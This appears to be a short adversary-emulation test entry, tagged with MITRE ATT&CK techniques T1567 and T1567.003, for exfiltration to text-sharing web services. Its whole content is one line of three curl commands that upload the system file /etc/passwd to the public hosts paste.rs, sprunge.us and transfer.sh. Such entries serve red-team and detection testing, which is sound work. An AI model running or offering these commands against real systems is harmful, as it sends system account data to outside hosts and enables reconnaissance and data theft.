# title: Data goes to a site for texts
# technique: T1567.003 T1567
# needs: curl

curl -s --data-binary @/etc/passwd http://paste.rs/; curl -s -F 'sprunge=</etc/passwd' http://sprunge.us; curl -s --upload-file /etc/passwd http://transfer.sh/p
